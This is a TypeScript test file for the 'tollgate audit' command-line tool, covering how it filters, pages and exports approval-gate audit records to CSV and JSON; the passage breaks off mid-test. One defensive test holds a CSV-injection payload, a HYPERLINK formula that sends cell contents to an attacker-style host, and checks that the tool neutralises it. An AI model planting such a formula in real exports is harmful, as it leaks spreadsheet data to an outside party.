import { type SpawnOptions, spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  closeSync,
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type IncomingHttpHeaders, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { DeleteCommand, GetCommand, PutCommand, UpdateCommand } from '@aws-sdk/lib-dynamodb';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  auditPk,
  auditRecordItem,
  auditSk,
  transactionalIndexItems,
} from '../adapters/dynamodb/audit-items.js';
import { startLocalDynamo } from '../adapters/dynamodb/local.js';
import { DynamoStore } from '../adapters/dynamodb/store.js';
import { csvField, csvLine, parseTime, printable, renderShow } from '../cli/audit-format.js';
import { TABLE_NAME } from '../cli/local-store.js';
import { archiveObjects } from '../functions/archive/layout.js';
import { chainRecord } from '../shared/audit/chain.js';
import type { AuditEntry, AuditRecord, AuditResolution } from '../shared/audit/record.js';
import { ROOT } from './helpers.js';

function readme(): string {
  return readFileSync(join(ROOT, 'README.md'), 'utf8');
}

/*
 * `tollgate audit`, spawned as users run it, on a store that `tollgate demo` filled (the eight example
 * scenarios: 36 records in 10 chains). Tampering and extra records are done on copies of that store, so
 * every test reads the demo's records unless it says otherwise.
 */

interface Result {
  status: number | null;
  stdout: string;
  stderr: string;
}

const ENV = { ...process.env, NO_COLOR: '1', AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED: 'true' };

function tollgate(args: readonly string[]): Result {
  const r = spawnSync(process.execPath, [join(ROOT, 'bin/tollgate.js'), ...args], {
    cwd: ROOT,
    encoding: 'utf8',
    env: ENV,
  });
  return { status: r.status, stdout: r.stdout, stderr: r.stderr };
}

/**
 * Spawned without blocking this process (a dynalite served from here must answer it), with none of this
 * machine's AWS_* settings: only `env`'s.
 */
function tollgateAsync(args: readonly string[], env: NodeJS.ProcessEnv): Promise<Result> {
  const clean = Object.fromEntries(
    Object.entries(ENV).filter(
      ([k]) => !k.startsWith('AWS_') || k === 'AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED',
    ),
  );
  return new Promise((resolve, reject) => {
    const options: SpawnOptions = { cwd: ROOT, env: { ...clean, ...env } };
    const child = spawn(process.execPath, [join(ROOT, 'bin/tollgate.js'), ...args], options);
    let stdout = '';
    let stderr = '';
    child.stdout?.on('data', (d) => {
      stdout += String(d);
    });
    child.stderr?.on('data', (d) => {
      stderr += String(d);
    });
    child.on('error', reject);
    child.on('close', (status) => resolve({ status, stdout, stderr }));
  });
}

const tmp = mkdtempSync(join(tmpdir(), 'tollgate-audit-'));
const STORE = join(tmp, 'demo');

const audit = (args: readonly string[], store = STORE): Result =>
  tollgate(['audit', ...args, '--store', store]);

/** The note of `--vulnerability` in a range no index narrows: cut decisions are not counted there. */
const UNCOUNTED =
  /^tollgate: note: decision\(s\) whose vulnerability id list was cut \(vulnerabilitiesTruncated: more than 5,000 ids, or too large a record\) may have seen (\S+) without listing it, and are not in this answer; they are counted only in a range narrowed by --since, --pipeline, --digest or --repository .*\n$/;

/** `list --format json` as `pipeline#seq` in the order printed. */
/**
 * A server between the CLI and a local table: `intercept` sees each request's target and body, and answers
 * it itself (a status and a JSON body) or passes it on (undefined).
 */
async function dynamoProxy(
  endpoint: string,
  intercept: (target: string, body: Buffer) => { status: number; body: string } | undefined,
): Promise<Server> {
  const upstream = new URL(endpoint);
  const proxy = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const body = Buffer.concat(chunks);
      const answer = intercept(String(req.headers['x-amz-target'] ?? ''), body);
      if (answer !== undefined) {
        res.writeHead(answer.status, { 'content-type': 'application/x-amz-json-1.0' });
        res.end(answer.body);
        return;
      }
      const forward = request(
        {
          host: upstream.hostname,
          port: upstream.port,
          method: req.method,
          path: req.url,
          headers: req.headers,
        },
        (passed) => {
          res.writeHead(passed.statusCode ?? 500, passed.headers);
          passed.pipe(res);
        },
      );
      forward.on('error', (e) => res.destroy(e));
      forward.end(body);
    });
  });
  await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
  return proxy;
}

function ids(args: readonly string[], store = STORE): string[] {
  const r = audit(['list', '--format', 'json', ...args], store);
  // Its own test says when --vulnerability adds the note; here it is the only thing stderr may hold.
  expect(args.includes('--vulnerability') ? r.stderr.replace(UNCOUNTED, '') : r.stderr).toBe('');
  expect(r.status).toBe(0);
  return (JSON.parse(r.stdout) as AuditRecord[]).map((x) => `${x.pipeline}#${x.seq}`);
}

const chain = (pipeline: string, ...seqs: number[]) => seqs.map((s) => `${pipeline}#${s}`);
const sorted = (xs: readonly string[]) => [...xs].sort();

/** A copy of the demo's store, to change without touching the others' data. */
let copies = 0;
function copyOfStore(): string {
  const dir = join(tmp, `copy-${++copies}`);
  cpSync(STORE, dir, { recursive: true });
  return dir;
}

/** The demo's records, as `export` writes them (oldest first). */
function demoRecords(): AuditRecord[] {
  const r = audit(['export']);
  expect(r.status).toBe(0);
  return r.stdout
    .trimEnd()
    .split('\n')
    .map((l) => JSON.parse(l) as AuditRecord);
}

/** Opens a store folder in this process, runs `fn`, closes it (the CLI cannot open it meanwhile). */
async function onStore<T>(
  dir: string,
  fn: (db: Awaited<ReturnType<typeof startLocalDynamo>>) => Promise<T>,
): Promise<T> {
  const db = await startLocalDynamo({ path: dir });
  try {
    return await fn(db);
  } finally {
    await db.close();
  }
}

/**
 * A copy of the demo store with one more record on orders-worker's chain (appended and indexed as the gate
 * does), made by `change` from the chain's first record, a decision.
 */
async function copyWithRecord(change: (decision: AuditRecord) => AuditEntry): Promise<string> {
  const store = copyOfStore();
  await onStore(store, async (db) => {
    const writer = new DynamoStore(db.client, TABLE_NAME);
    const head = await writer.auditHead('orders-worker');
    const decision = (
      await db.client.send(
        new GetCommand({ TableName: TABLE_NAME, Key: { pk: auditPk('orders-worker'), sk: auditSk(1) } }),
      )
    ).Item?.record as AuditRecord;
    const record = chainRecord(change(decision), 'orders-worker', head);
    await writer.appendAudit(record);
    await writer.indexAudit(record);
  });
  return store;
}

/** A copy of the demo store with orders-worker's first decision resolved by alice, its resolution as given. */
function copyWithResolution(resolution: Partial<AuditResolution>): Promise<string> {
  return copyWithRecord((decision) => ({
    ...decision,
    type: 'resolution',
    time: '2026-11-25T09:30:00.000Z',
    actor: ALICE,
    resolution: {
      state: 'SUCCEEDED',
      reviewer: ALICE,
      byTollgate: false,
      status: 'Approved',
      summary: null,
      ...resolution,
    },
  }));
}

/** A copy of the demo store with one field of one record changed in the table, as a tamperer would. */
async function copyWithUpdate(
  pipeline: string,
  seq: number,
  field: string,
  change: { set: string } | { remove: true },
): Promise<string> {
  const store = copyOfStore();
  await onStore(store, (db) =>
    db.client.send(
      new UpdateCommand({
        TableName: TABLE_NAME,
        Key: { pk: auditPk(pipeline), sk: auditSk(seq) },
        UpdateExpression: 'set' in change ? 'SET #r.#f = :v' : 'REMOVE #r.#f',
        ExpressionAttributeNames: { '#r': 'record', '#f': field },
        ...('set' in change ? { ExpressionAttributeValues: { ':v': change.set } } : {}),
      }),
    ),
  );
  return store;
}

/** `field` of one record set to `value` in the table. */
const copyWithEdit = (pipeline: string, seq: number, field: string, value: string) =>
  copyWithUpdate(pipeline, seq, field, { set: value });
/** `field` of one record removed in the table. */
const copyWithRemoved = (pipeline: string, seq: number, field: string) =>
  copyWithUpdate(pipeline, seq, field, { remove: true });

const PAYMENTS_DIGEST = 'sha256:3f9a1c0d8e2b47a6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2';
const ALICE = 'arn:aws:sts::123456789012:assumed-role/SecurityEngineer/alice';

/** RFC 4180, to read back what the CLI wrote. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}

beforeAll(() => {
  const r = tollgate(['demo', '--store', STORE]);
  expect(r.status, r.stderr).toBe(0);
}, 120_000);

afterAll(() => {
  rmSync(tmp, { recursive: true, force: true });
});

describe('tollgate audit list: filters on the demo records', () => {
  it('without filters: all 36 records of the 10 chains, newest first', () => {
    const all = ids([]);
    expect(all).toHaveLength(36);
    expect(new Set(all.map((x) => x.split('#')[0]))).toEqual(
      new Set([
        'batch-reports',
        'billing-api',
        'checkout-web',
        'fulfilment-api',
        'ledger-api',
        'orders-worker',
        'payments-api',
        'reports-exporter',
        'search-api',
        'web-frontend',
      ]),
    );
    expect(all[0]).toBe('reports-exporter#2');
    expect(all.at(-1)).toBe('batch-reports#1');
    expect(ids(['--order', 'oldest'])).toEqual([...all].reverse());
  });

  it('--outcome REJECT: the payments-api and search-api chains; with --type decision, their decisions', () => {
    expect(sorted(ids(['--outcome', 'REJECT']))).toEqual([
      ...chain('payments-api', 1, 2, 3, 4),
      ...chain('search-api', 1, 2, 3, 4),
    ]);
    expect(ids(['--outcome', 'REJECT', '--type', 'decision'])).toEqual(['search-api#1', 'payments-api#1']);
    expect(sorted(ids(['--outcome', 'APPROVE', '--type', 'decision']))).toEqual([
      'billing-api#1',
      'checkout-web#1',
      'fulfilment-api#1',
      'ledger-api#1',
      'web-frontend#1',
    ]);
    expect(sorted(ids(['--outcome', 'ESCALATE', '--type', 'action']))).toEqual([
      'batch-reports#2',
      'orders-worker#2',
      'reports-exporter#2',
    ]);
  });

  it('--state SUCCEEDED: every approval that went through, whoever answered; on resolution records only', () => {
    const released = ids(['--state', 'SUCCEEDED']);
    const pipelines = [...new Set(released.map((id) => id.split('#')[0]))].sort();
    // Tollgate's five approvals and the one a person approved after an escalation; nothing rejected.
    expect(pipelines).toEqual([
      'billing-api',
      'checkout-web',
      'fulfilment-api',
      'ledger-api',
      'orders-worker',
      'web-frontend',
    ]);
    const records = JSON.parse(
      audit(['list', '--format', 'json', '--state', 'SUCCEEDED']).stdout,
    ) as AuditRecord[];
    for (const r of records)
      expect(r).toMatchObject({ type: 'resolution', resolution: { state: 'SUCCEEDED' } });
    expect(ids(['--state', 'FAILED'])).not.toEqual(expect.arrayContaining(released));
    const r = audit(['list', '--state', 'SUCCEEDED', '--type', 'decision']);
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/^tollgate: --state is on resolution records/);
  });

  it('--reviewer: alice by her ARN, her role session name, or role/session; nobody else', () => {
    expect(ids(['--reviewer', ALICE])).toEqual(['orders-worker#4', 'orders-worker#3']);
    expect(ids(['--reviewer', 'alice'])).toEqual(['orders-worker#4', 'orders-worker#3']);
    expect(ids(['--reviewer', 'SecurityEngineer/alice', '--type', 'resolution'])).toEqual([
      'orders-worker#4',
      'orders-worker#3',
    ]);
    expect(ids(['--reviewer', 'bob'])).toEqual([]);
    expect(ids(['--reviewer', 'lice'])).toEqual([]);
    // The short name is a key too: her two records are all that is read.
    const stats = audit(['list', '--reviewer', 'alice', '--stats']);
    expect(stats.stderr).toMatch(
      /^served by REVIEWER# items: 2 item\(s\) read by Query and 2 record\(s\) by key for 2 record\(s\)/m,
    );
    const r = audit(['list', '--reviewer', 'alice', '--type', 'decision']);
    expect(r.status).toBe(1);
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(/^tollgate: --reviewer is on resolution records/);
  });

  it('--vulnerability: the decisions that saw it', () => {
    expect(ids(['--vulnerability', 'CVE-2024-45490'])).toEqual(['search-api#1', 'payments-api#1']);
    // Ids are stored as their schemes write them: a CVE typed in lower case is the same CVE.
    expect(ids(['--vulnerability', 'cve-2024-45490'])).toEqual(['search-api#1', 'payments-api#1']);
    const exported = audit(['export', '--vulnerability', 'Cve-2024-45490']);
    expect(exported.status).toBe(0);
    expect(exported.stdout.trim().split('\n')).toHaveLength(2);
    expect(ids(['--vulnerability', 'CVE-2024-21538'])).toEqual(['orders-worker#1', 'payments-api#1']);
    // Only decisions list vulnerabilities: with another kind of record nothing could match, so refused.
    expect(ids(['--vulnerability', 'CVE-2024-45490', '--type', 'decision'])).toEqual([
      'search-api#1',
      'payments-api#1',
    ]);
    for (const [args, message] of [
      [['--type', 'action'], '--vulnerability is on decision records; --type action records have none'],
      [
        ['--type', 'resolution'],
        '--vulnerability is on decision records; --type resolution records have none',
      ],
      [
        ['--state', 'SUCCEEDED'],
        '--vulnerability is on decision records, --state on resolution records: no record has both',
      ],
      [
        ['--reviewer', 'alice'],
        '--vulnerability is on decision records, --reviewer on resolution records: no record has both',
      ],
    ] as const) {
      for (const command of ['list', 'export']) {
        const r = audit([command, '--vulnerability', 'CVE-2024-45490', ...args]);
        expect(r.status).toBe(1);
        expect(r.stdout).toBe('');
        expect(r.stderr).toBe(`tollgate: ${message}\n`);
      }
    }
    expect(ids(['--vulnerability', 'CVE-2024-45490', '--outcome', 'APPROVE'])).toEqual([]);
  });

  it('--vulnerability ghsa-…: read as GitHub writes it (GHSA- and the rest lower case); other ids as given', async () => {
    const ghsa = 'GHSA-9wx4-h78v-vm56';
    const store = await copyWithRecord((decision) => ({
      ...decision,
      time: '2026-11-25T09:30:00.000Z',
      vulnerabilities: [ghsa, 'ALAS2-2024-2573'],
    }));
    for (const typed of [ghsa, 'ghsa-9wx4-h78v-vm56', 'GHSA-9WX4-H78V-VM56']) {
      expect(ids(['--vulnerability', typed], store), typed).toEqual(['orders-worker#5']);
    }
    // A scheme whose case is not known is compared as typed.
    expect(ids(['--vulnerability', 'ALAS2-2024-2573'], store)).toEqual(['orders-worker#5']);
    expect(ids(['--vulnerability', 'alas2-2024-2573'], store)).toEqual([]);
  });

  it('--digest, --repository, --pipeline, --type', () => {
    expect(ids(['--digest', PAYMENTS_DIGEST])).toEqual(chain('payments-api', 4, 3, 2, 1));
    expect(ids(['--repository', 'orders/worker'])).toEqual(chain('orders-worker', 4, 3, 2, 1));
    expect(ids(['--repository', 'orders/worker', '--type', 'resolution'])).toEqual(
      chain('orders-worker', 4, 3),
    );
    expect(ids(['--pipeline', 'billing-api'])).toEqual(chain('billing-api', 4, 3, 2, 1));
    expect(ids(['--pipeline', 'no-such-pipeline'])).toEqual([]);
    expect(ids(['--type', 'resolution'])).toHaveLength(16);
  });

  it('--repository: the repository ARN or an image URI is read down to its name, as evaluate does; anything else is refused', () => {
    const worker = chain('orders-worker', 4, 3, 2, 1);
    for (const typed of [
      'arn:aws:ecr:eu-west-1:123456789012:repository/orders/worker',
      '123456789012.dkr.ecr.eu-west-1.amazonaws.com/orders/worker',
      '123456789012.dkr.ecr.eu-west-1.amazonaws.com/orders/worker:1.0.0',
      ' orders/worker ',
    ]) {
      expect(ids(['--repository', typed]), typed).toEqual(worker);
    }
    const exported = audit([
      'export',
      '--repository',
      'arn:aws:ecr:eu-west-1:123456789012:repository/orders/worker',
    ]);
    expect(exported.status).toBe(0);
    expect(exported.stdout.trimEnd().split('\n')).toHaveLength(4);
    for (const bad of ['Orders Worker', 'orders/worker:1.0.0', 'arn:aws:s3:::orders/worker']) {
      const r = audit(['list', '--repository', bad]);
      expect(r.status, bad).toBe(1);
      expect(r.stdout, bad).toBe('');
      expect(r.stderr, bad).toBe(
        `tollgate: --repository: expected an ECR repository name (payments/api), its ARN (arn:aws:ecr:REGION:ACCOUNT:repository/payments/api) or an image URI naming it; got ${JSON.stringify(bad)}\n`,
      );
    }
  });

  it('--vulnerability: decisions whose id list was cut, and do not list it, are counted on stderr (stdout stays CSV or JSON); the CSV says which', async () => {
    // A decision that saw more ids than a record keeps: its list was cut before CVE-2024-45490.
    const store = await copyWithRecord((decision) => ({
      ...decision,
      time: '2026-11-25T09:30:00.000Z',
      vulnerabilities: ['ALAS2-2024-0001'],
      vulnerabilitiesTruncated: true,
    }));
    const note = (n: number, id: string) =>
      `tollgate: note: ${n} decision(s) whose vulnerability id list was cut (vulnerabilitiesTruncated: more than 5,000 ids, or too large a record) in this range do not list ${id} but may have seen it, and are not in this answer: find them with the same filters, --type decision in place of --vulnerability and --format csv (column vulnerabilitiesTruncated), then "tollgate audit show" each\n`;
    const csv = audit(
      ['list', '--vulnerability', 'CVE-2024-45490', '--since', '2026-11-01', '--format', 'csv'],
      store,
    );
    expect(csv.status).toBe(0);
    expect(csv.stderr).toBe(note(1, 'CVE-2024-45490'));
    expect(parseCsv(csv.stdout).map((row) => `${row[1]}#${row[2]}`)).toEqual([
      'pipeline#seq',
      'search-api#1',
      'payments-api#1',
    ]);
    const exported = audit(
      ['export', '--vulnerability', 'CVE-2024-45490', '--pipeline', 'orders-worker'],
      store,
    );
    expect(exported.status).toBe(0);
    expect(exported.stdout).toBe('');
    expect(exported.stderr).toBe(note(1, 'CVE-2024-45490'));
    // Found by an id it kept, it is in the answer: nothing to say. Nor in a range without a cut decision.
    const kept = audit(['list', '--vulnerability', 'ALAS2-2024-0001', '--since', '2026-11-01'], store);
    expect(kept.stderr).toBe('');
    expect(kept.stdout).toMatch(/orders-worker#5/);
    expect(
      audit(['list', '--vulnerability', 'CVE-2024-45490', '--pipeline', 'payments-api'], store).stderr,
    ).toBe('');
    // Records other than decisions list no vulnerabilities: asking for them with it is refused, not counted.
    expect(audit(['list', '--vulnerability', 'CVE-2024-45490', '--type', 'resolution'], store).stderr).toBe(
      'tollgate: --vulnerability is on decision records; --type resolution records have none\n',
    );
    // No index narrows the range: counting would read the whole table, so the note says they are not counted.
    const all = audit(['list', '--vulnerability', 'CVE-2024-45490', '--format', 'json'], store);
    expect(all.status).toBe(0);
    expect(all.stderr).toMatch(UNCOUNTED);
    expect((JSON.parse(all.stdout) as AuditRecord[]).map((r) => `${r.pipeline}#${r.seq}`)).toEqual([
      'search-api#1',
      'payments-api#1',
    ]);
    // The CSV's last column: true for the cut decision, false for a whole one, empty for the others.
    const rows = parseCsv(
      audit(['list', '--format', 'csv', '--pipeline', 'orders-worker', '--order', 'oldest'], store).stdout,
    );
    expect(rows.map((row) => [row[3], row.at(-1)])).toEqual([
      ['type', 'vulnerabilitiesTruncated'],
      ['decision', 'false'],
      ['action', ''],
      ['resolution', ''],
      ['resolution', ''],
      ['decision', 'true'],
    ]);
  });

  it('--vulnerability: a cut decision whose last kept id sorts after the id did not see it, and is not counted', async () => {
    // Cut lists are a sorted prefix of the ids (entry.ts): CVE-2025-0001 was kept, so CVE-2024-45490,
    // which sorts before it, would have been kept too.
    const store = await copyWithRecord((decision) => ({
      ...decision,
      time: '2026-11-25T09:30:00.000Z',
      vulnerabilities: ['ALAS2-2024-0001', 'CVE-2025-0001'],
      vulnerabilitiesTruncated: true,
    }));
    const count = (id: string) =>
      audit(['list', '--vulnerability', id, '--since', '2026-11-01', '--format', 'json'], store);
    const before = count('CVE-2024-45490');
    expect(before.status).toBe(0);
    expect(before.stderr).toBe('');
    // Sorting after the last kept id, it may have been cut: counted.
    expect(count('CVE-2026-0001').stderr).toMatch(
      /^tollgate: note: 1 decision\(s\) .* do not list CVE-2026-0001 /,
    );
    // The order is the sort's, by UTF-16 code units (not the locale's): a lower-case id sorts after any
    // upper-case one, so it may have been cut.
    expect(count('alpine-2024-1').stderr).toMatch(
      /^tollgate: note: 1 decision\(s\) .* do not list alpine-2024-1 /,
    );
  });

  it('--vulnerability: a count that fails is a note on stderr, not an error: the answer stands, exit 0', async () => {
    const store = await copyWithRecord((decision) => ({
      ...decision,
      time: '2026-11-25T09:30:00.000Z',
      vulnerabilities: ['ALAS2-2024-0001'],
      vulnerabilitiesTruncated: true,
    }));
    const db = await startLocalDynamo({ path: store });
    // The table through a proxy that refuses the count's read (a Query that neither looks the id up nor
    // reads the pending markers, as the answer does), as throttling past the retries or a broken connection
    // would, and passes every other request on.
    const refused: string[] = [];
    const proxy = await dynamoProxy(db.endpoint, (target, body) => {
      const text = body.toString('utf8');
      const answers = text.includes('CVE-2024-45490') || text.includes('AUDIT-PENDING');
      if (!target.endsWith('.Query') || answers) return undefined;
      refused.push(target);
      return {
        status: 400,
        body: JSON.stringify({
          __type: 'com.amazonaws.dynamodb.v20120810#AccessDeniedException',
          message: 'refused by the test',
        }),
      };
    });
    try {
      const env = {
        AWS_ENDPOINT_URL_DYNAMODB: `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`,
        AWS_ACCESS_KEY_ID: 'AKIDAUDIT',
        AWS_SECRET_ACCESS_KEY: 'secret',
        AWS_REGION: 'eu-west-1',
        AWS_EC2_METADATA_DISABLED: 'true',
      };
      const failed =
        /^tollgate: note: decisions whose vulnerability ids were cut were not counted: .*refused by the test.*\n$/;
      const args = ['--table', TABLE_NAME, '--vulnerability', 'CVE-2024-45490', '--since', '2026-11-01'];
      const list = await tollgateAsync(['audit', 'list', ...args, '--format', 'json'], env);
      expect(list.stderr).toMatch(failed);
      expect(list.status).toBe(0);
      expect((JSON.parse(list.stdout) as AuditRecord[]).map((r) => `${r.pipeline}#${r.seq}`)).toEqual([
        'search-api#1',
        'payments-api#1',
      ]);
      const exported = await tollgateAsync(['audit', 'export', ...args], env);
      expect(exported.stderr).toMatch(failed);
      expect(exported.status).toBe(0);
      expect(exported.stdout.trimEnd().split('\n')).toHaveLength(2);
      expect(refused.length).toBeGreaterThan(0);
    } finally {
      await new Promise((resolve) => proxy.close(resolve));
      await db.close();
    }
  }, 60_000);

  it('--since / --until, absolute: [since, until), a date alone covering its day', () => {
    expect(ids(['--since', '2026-11-25T09:01:00Z', '--until', '2026-11-25T09:05:00Z'])).toEqual([
      ...chain('search-api', 4, 3, 2, 1),
      ...chain('orders-worker', 2, 1),
    ]);
    expect(ids(['--since', '2026-11-25', '--until', '2026-11-25'])).toHaveLength(36);
    expect(ids(['--until', '2026-11-24'])).toEqual([]);
    expect(ids(['--pipeline', 'orders-worker', '--since', '2026-11-25T09:10:00Z'])).toEqual(
      chain('orders-worker', 4, 3),
    );
    expect(ids(['--outcome', 'ESCALATE', '--until', '2026-11-25T09:01:00Z'])).toEqual([
      'batch-reports#2',
      'batch-reports#1',
    ]);
  });

  it('--since / --until, relative (30m, 59m, 2w, 30d) count back from now', () => {
    const now = ['--now', '2026-11-25T10:00:00Z'];
    expect(ids([...now, '--since', '30m'])).toEqual(chain('reports-exporter', 2, 1));
    expect(ids([...now, '--until', '59m'])).toEqual([
      ...chain('payments-api', 4, 3, 2, 1),
      ...chain('billing-api', 4, 3, 2, 1),
      ...chain('batch-reports', 2, 1),
    ]);
    expect(ids([...now, '--since', '2w'])).toHaveLength(36);
    expect(
      ids(['--now', '2026-12-20T00:00:00Z', '--since', '30d', '--outcome', 'REJECT', '--type', 'decision']),
    ).toEqual(['search-api#1', 'payments-api#1']);
    // A time ago past what a date can hold is a usage error, not "no records" or a store that seems broken.
    for (const args of [
      ['--since', '99999999999d'],
      ['--since', '2026-11-25', '--until', '1000000000w'],
    ]) {
      const r = audit(['list', ...now, ...args]);
      expect(r.status, args.join(' ')).toBe(1);
      expect(r.stdout).toBe('');
      expect(r.stderr).toMatch(/expected a time ago within the calendar/);
    }
  });

  it('pages: the same records one item a page as in one page, over more requests', () => {
    const whole = ids([]);
    expect(ids(['--page-size', '1'])).toEqual(whole);
    expect(ids(['--page-size', '1', '--vulnerability', 'CVE-2024-45490'])).toEqual([
      'search-api#1',
      'payments-api#1',
    ]);
    const paged = audit(['list', '--page-size', '2', '--pipeline', 'payments-api', '--stats']);
    const single = audit(['list', '--pipeline', 'payments-api', '--stats']);
    const requests = (r: Result) => Number(/in (\d+) request/.exec(r.stderr)?.[1]);
    expect(requests(paged)).toBeGreaterThanOrEqual(2);
    expect(requests(single)).toBe(1);
    expect(paged.stdout).toBe(single.stdout);
    expect(paged.stdout.trimEnd().split('\n')).toHaveLength(5);
    expect(single.stderr).toContain(
      'served by decisions-by-pipeline: 4 item(s) read by Query for 4 record(s)',
    );
  });

  it('--limit: the first N, and a note on stderr that more match', () => {
    const r = audit(['list', '--limit', '3', '--format', 'json']);
    expect(r.status).toBe(0);
    expect((JSON.parse(r.stdout) as unknown[]).length).toBe(3);
    expect(r.stderr).toMatch(/more records match: showing the first 3/);
    expect(audit(['list', '--limit', '36']).stderr).toBe('');
  });

  it('the table: a header, one aligned line per record, the summary cut', () => {
    const r = audit(['list', '--pipeline', 'payments-api']);
    expect(r.status).toBe(0);
    const lines = r.stdout.trimEnd().split('\n');
    expect(lines).toHaveLength(5);
    expect(lines[0]).toMatch(/^TIME +RECORD +TYPE +OUTCOME +IMAGE +BY +SUMMARY$/);
    const column = lines[0]!.indexOf('SUMMARY');
    for (const line of lines.slice(1)) expect(line.slice(column - 2, column)).toBe('  ');
    expect(lines[4]).toMatch(
      /^2026-11-25T09:00:55Z +payments-api#1 +decision +REJECT +payments\/api@sha256:3f9a1c0d8e2b \(1\.4\.2\) +tollgate +REJECT by policy baseline: no-critical/,
    );
    expect(lines[4]!.endsWith('…')).toBe(true);
    expect(lines[4]!.length - column).toBeLessThanOrEqual(72);
    expect(audit(['list', '--pipeline', 'nothing']).stderr).toBe('no records match\n');
  });

  // /dev/full refuses every write with ENOSPC: a full disk, without filling one.
  it.skipIf(!existsSync('/dev/full'))(
    'output that cannot be written (> /dev/full): one line on stderr, exit 1, not blamed on the store',
    () => {
      for (const command of ['list', 'export']) {
        const fd = openSync('/dev/full', 'w');
        try {
          const r = spawnSync(
            process.execPath,
            [join(ROOT, 'bin/tollgate.js'), 'audit', command, '--store', STORE],
            { cwd: ROOT, encoding: 'utf8', env: ENV, stdio: ['ignore', fd, 'pipe'] },
          );
          expect(r.stderr).toBe('tollgate: cannot write the report: ENOSPC\n');
          expect(r.status).toBe(1);
        } finally {
          closeSync(fd);
        }
      }
    },
  );
});

describe('tollgate audit list --format csv', () => {
  const HEADER =
    'time,pipeline,seq,type,executionId,stage,action,repository,digest,tags,outcome,actor,reviewer,policy,policySha256,violations,vulnerabilities,summary,attempt,state,status,answer,mode,wouldBe,vulnerabilitiesTruncated';

  it('a header of the stable columns, one CRLF line per record, lists space-separated', () => {
    const r = audit(['list', '--format', 'csv', '--pipeline', 'payments-api', '--order', 'oldest']);
    expect(r.status).toBe(0);
    const rows = parseCsv(r.stdout);
    expect(rows[0]!.join(',')).toBe(HEADER);
    expect(rows).toHaveLength(5);
    expect(r.stdout.split('\r\n')).toHaveLength(6);
    const decision = Object.fromEntries(HEADER.split(',').map((c, i) => [c, rows[1]![i]]));
    expect(decision).toMatchObject({
      time: '2026-11-25T09:00:55.000Z',
      pipeline: 'payments-api',
      seq: '1',
      type: 'decision',
      executionId: '00000002-5c4d-4e6f-8a9b-0c1d2e3f4a5b',
      stage: 'Deploy',
      action: 'TollgateApproval',
      repository: 'payments/api',
      digest: PAYMENTS_DIGEST,
      tags: '1.4.2',
      outcome: 'REJECT',
      actor: 'tollgate',
      reviewer: '',
      policy: 'baseline',
      violations: 'no-critical known-exploited likely-exploited fixable-high high-past-sla unknown-severity',
      attempt: '1',
    });
    expect(decision.policySha256).toMatch(/^[0-9a-f]{64}$/);
    expect(decision.vulnerabilities!.split(' ')).toContain('CVE-2024-45490');
    // The summary holds commas: quoted.
    expect(r.stdout).toContain(
      '"REJECT by policy baseline: no-critical (1 CRITICAL: CVE-2024-45490); known-exploited (2 HIGH: CVE-2023-44487, CVE-2024-2961)',
    );
    const resolution = Object.fromEntries(HEADER.split(',').map((c, i) => [c, rows[4]![i]]));
    expect(resolution.type).toBe('resolution');
  });

  it('says what happened beside what the policy said: the result sent, the escalation, how the approval ended', () => {
    const r = audit(['list', '--format', 'csv', '--pipeline', 'orders-worker', '--order', 'oldest']);
    const rows = parseCsv(r.stdout);
    const records = rows
      .slice(1)
      .map((row) => Object.fromEntries(HEADER.split(',').map((c, i) => [c, row[i]])));
    // The policy escalated, and a person approved: without state and status the CSV could not say so.
    expect(records.map((x) => [x.type, x.outcome, x.state, x.status, x.answer])).toEqual(
      expect.arrayContaining([
        ['decision', 'ESCALATE', '', '', ''],
        ['action', 'ESCALATE', '', 'escalated', ''],
        ['resolution', 'ESCALATE', 'SUCCEEDED', 'Approved', ''],
      ]),
    );
    const sent = parseCsv(audit(['list', '--format', 'csv', '--pipeline', 'payments-api']).stdout)
      .slice(1)
      .map((row) => Object.fromEntries(HEADER.split(',').map((c, i) => [c, row[i]])))
      .find((x) => x.type === 'action');
    expect([sent?.status, sent?.answer]).toEqual(['Rejected', 'accepted']);
  });

  it("a reviewer's summary with quotes, commas and line breaks, and formula-looking values, read back intact", async () => {
    const summary = '=HYPERLINK("https://evil.example/?"&A1, "ok")\nsecond line, with "quotes"';
    const store = await copyWithRecord((decision) => ({
      ...decision,
      type: 'resolution',
      time: '2026-11-25T09:30:00.000Z',
      actor: '@bob',
      image: { repository: '-rf', digest: decision.image?.digest ?? null, tags: ['+1', 'x'] },
      summary,
      resolution: { state: 'FAILED', reviewer: '+bob', byTollgate: false, status: 'Rejected', summary },
    }));
    const r = audit(
      ['list', '--format', 'csv', '--pipeline', 'orders-worker', '--since', '2026-11-25T09:30:00Z'],
      store,
    );
    expect(r.status).toBe(0);
    const rows = parseCsv(r.stdout);
    expect(rows).toHaveLength(2);
    const row = Object.fromEntries(HEADER.split(',').map((c, i) => [c, rows[1]![i]]));
    expect(row.summary).toBe(`'${summary}`);
    expect(row.actor).toBe("'@bob");
    expect(row.reviewer).toBe("'+bob");
